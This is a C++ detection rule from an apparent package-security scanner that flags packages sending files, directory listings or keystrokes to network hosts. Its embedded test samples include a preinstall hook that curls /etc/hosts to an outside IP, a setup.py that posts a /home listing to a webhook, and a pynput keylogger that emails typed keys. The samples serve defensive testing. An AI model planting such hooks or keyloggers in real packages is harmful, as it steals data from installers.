#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

constexpr Sources recordings = Source::screen | Source::clipboard | Source::keystrokes;
constexpr Sources files = Source::local_file | Source::command_output | Source::listing;

Severity severity_of(const Action& action, HostKind kind) {
  const bool is_shady = is_shady_origin(kind) || kind == HostKind::free_hosting;
  if (outflow(action).any(recordings)) {
    if (runs_uncalled(action)) return Severity::critical;
    // Nobody asks a library to type along.
    if (outflow(action).has(Source::keystrokes) && kind != HostKind::unknown)
      return Severity::critical;
    return is_shady ? Severity::high : Severity::info;
  }
  if (is_shady) {
    const bool is_fixed = is_shady_origin(kind) && destination_of(action.target).host_is_constant;
    return runs_uncalled(action) || is_fixed ? Severity::critical : Severity::high;
  }
  // Installers read /etc/os-release and ask ldd to choose a binary: that is in the address.
  if (!action.data.any(files)) return Severity::info;
  if (kind == HostKind::unknown) return Severity::info;
  return at_install(action) ? Severity::high : Severity::info;
}

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || action.act == Act::connect || !is_shipped(action)) continue;
    const Sources what = outflow(action);
    if (!what.any(recordings | files)) continue;
    const HostKind kind = destination_of(action.target).kind;
    if (kind == HostKind::local || only_downloads(action, kind)) continue;
    const Severity severity = severity_of(action, kind);
    if (severity == Severity::info) continue;
    findings.add(
        severity, action.where,
        sentence("sends " + names_of(what & (recordings | files)) + " to " + shown_target(action),
                 action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule sends_local_data = {
    .id = "sends-local-data",
    .title = "The package sends files, command output or recordings",
    .why =
        "Lists of files, outputs of commands, screenshots and key strokes describe a victim. "
        "Code that nobody called has no use for them elsewhere.",
    .harmless_when =
        "A bug report or upload that its user starts, to the host that the user "
        "chose.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a hook uploads a file of the system",
     .expect = "package.json:1",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "curl --data @/etc/hosts http://192.0.2.10/"}}
)"},
    {.name = "a setup script sends a listing", .expect = "setup.py:4", .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import os
import requests
from setuptools import setup
requests.post("https://widget.pipedream.net/", json=os.listdir("/home"))
setup(name="widget", version="1.0.0")
)"},
    {.name = "an upload that the user asks for", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import requests
def upload(path):
    with open(path, "rb") as file:
        return requests.post("https://api.example.test/upload", data=file.read())
)"},
    {.name = "a function mails the keys that were pressed",
     .expect = "widget/__init__.py:10",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import smtplib
from pynput import keyboard
typed = []
def note(key):
    typed.append(str(key))
def watch():
    with keyboard.Listener(on_press=note) as listener:
        listener.join()
    server = smtplib.SMTP("mail.example.test")
    server.sendmail("a@example.test", "a@example.test", "".join(typed))
)"},
};
extern const std::span<const Sample> sends_local_data_samples = samples;
#endif

}  // namespace assay::rules
